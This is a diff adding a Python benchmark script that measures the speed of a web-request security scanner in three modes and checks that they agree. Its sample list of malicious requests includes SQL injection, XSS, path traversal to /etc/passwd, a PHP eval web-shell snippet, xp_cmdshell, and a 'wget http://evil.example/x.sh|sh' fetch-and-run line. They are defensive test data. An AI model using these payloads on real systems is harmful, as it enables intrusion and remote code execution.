@@ -0,0 +1,117 @@
+"""
+Security Scanner Micro-benchmark - Exhaustive vs prefiltered vs cached scanning
+Times SecurityScanner on a mix of benign and malicious requests and checks all three agree
+"""
+
+import random
+import sys
+import time
+from pathlib import Path
+
+import click
+
+# Add project root and sample data to path
+sys.path.insert(0, str(Path(__file__).parent.parent))
+sys.path.insert(0, str(Path(__file__).parent.parent / 'sample_data'))
+
+from analyzers.security_scanner import SecurityScanner
+from generate_sample_logs import PATHS
+
+BENIGN_QUERIES = [
+    '',
+    'page=2',
+    'id=123',
+    'q=running+shoes&sort=price',
+    'utm_source=google&utm_medium=cpc',
+    'v=3',
+    'location_id=5',
+    'session=abc123',
+]
+
+MALICIOUS_REQUESTS = [
+    ("/admin' OR '1'='1", ''),
+    ('/search', "q=<script>alert('XSS')</script>"),
+    ('/api', 'file=../../../../etc/passwd'),
+    ('/login', 'redirect=$(whoami)'),
+    ('/api/users', 'id=1 UNION SELECT * FROM passwords--'),
+    ('/../../windows/system32', ''),
+    ('/page', 'x=1;DROP TABLE users'),
+    ('/img', 'src=x onerror=alert(1)'),
+    ('/run', 'cmd=wget http://evil.example/x.sh|sh'),
+    ('/index.php', 'code=<?php eval(base64_decode($x)); ?>'),
+    ('/go', 'url=JavaScript:alert(1)'),
+    ('/q', 'id=1; exec xp_cmdshell'),
+]
+
+
+def generate_requests(num_requests: int, attack_rate: float, seed: int) -> list:
+    """Generate (path, query_string) pairs with the given share of attacks"""
+    random.seed(seed)
+    requests = []
+
+    for _ in range(num_requests):
+        if random.random() < attack_rate:
+            requests.append(random.choice(MALICIOUS_REQUESTS))
+        else:
+            requests.append((random.choice(PATHS), random.choice(BENIGN_QUERIES)))
+
+    return requests
+
+
+def time_scanner(scanner: SecurityScanner, requests: list, repeat: int) -> tuple:
+    """Return (best seconds, scan results) over `repeat` runs"""
+    best = float('inf')
+    results = []
+
+    for _ in range(repeat):
+        start = time.perf_counter()
+        results = [scanner.scan(path, query) for path, query in requests]
+        best = min(best, time.perf_counter() - start)
+
+    return best, results
+
+
+@click.command()
+@click.option('--requests', 'num_requests', default=200000, help='Number of generated requests')
+@click.option('--attack-rate', default=0.02, help='Share of malicious requests')
+@click.option('--repeat', default=3, help='Runs per scanner (best time is reported)')
+@click.option('--seed', default=42, help='Random seed for generated requests')
+def main(num_requests, attack_rate, repeat, seed):
+    """Compare SecurityScanner throughput with the literal prefilter and verdict cache on and off"""
+    requests = generate_requests(num_requests, attack_rate, seed)
+
+    print(f"Benchmarking {len(requests):,} requests, {attack_rate:.0%} malicious (best of {repeat})\n")
+
+    full_time, full_results = time_scanner(SecurityScanner(prefilter=False, cache_size=0), requests, repeat)
+
+    scanner = SecurityScanner(cache_size=0)
+    fast_time, fast_results = time_scanner(scanner, requests, repeat)
+
+    cached_scanner = SecurityScanner()
+    cached_time, cached_results = time_scanner(cached_scanner, requests, repeat)
+
+    mismatches = sum(
+        1 for a, b, c in zip(full_results, fast_results, cached_results)
+        if not a == b == c
+    )
+    stats = scanner.get_stats()
+    cache_stats = cached_scanner.get_stats()
+
+    print(f"  {'Scanner':<12} {'Seconds':>10} {'Requests/sec':>14}")
+    print(f"  {'exhaustive':<12} {full_time:>10.3f} {len(requests) / full_time:>14,.0f}")
+    print(f"  {'prefiltered':<12} {fast_time:>10.3f} {len(requests) / fast_time:>14,.0f}")
+    print(f"  {'cached':<12} {cached_time:>10.3f} {len(requests) / cached_time:>14,.0f}")
+    print(f"\n  Speedup (prefilter):   {full_time / fast_time:.2f}x")
+    print(f"  Speedup (cache):       {full_time / cached_time:.2f}x")
+    print(f"  Regexes per request:   {stats['patterns_evaluated'] / stats['requests_scanned']:.2f} (of 21)")
+    print(f"  Rejected by prefilter: {stats['requests_prefiltered'] / stats['requests_scanned']:.1%}")
+    print(f"  Prefilter hit rate:    {stats['prefilter_hit_rate']:.1%} of pattern checks skipped")
+    print(f"  Cache hit rate:        {cache_stats['cache_hit_rate']:.1%} ({cache_stats['cache_entries']:,} entries)")
+    print(f"  Mismatches:            {mismatches}")
+
+    if mismatches:
+        sys.exit(1)
+
+
+if __name__ == '__main__':
+    main()